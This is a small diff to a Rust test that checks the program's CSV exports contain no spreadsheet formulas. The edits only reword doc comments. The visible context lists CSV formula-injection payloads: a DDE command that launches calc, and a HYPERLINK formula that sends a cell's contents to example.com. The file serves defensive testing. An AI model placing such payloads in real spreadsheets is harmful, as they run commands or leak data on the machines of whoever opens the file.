@@ -1,10 +1,10 @@
-//! Whatever customers are called, no CSV that the program writes holds a formula, and every text in it comes back.
+//! Whatever customers are called, no CSV of the program has a formula, and every text in it can be read back.
 
 use std::collections::BTreeSet;
 
 use crate::support::{Shop, files_below};
 
-/// Texts that a spreadsheet would run, or did once.
+/// Texts that a spreadsheet would execute, or did once.
 const HOSTILE: [&str; 12] = [
     "=cmd|' /C calc'!A0",
     "=HYPERLINK(\"http://example.com/?\"&A1,\"Ida\")",
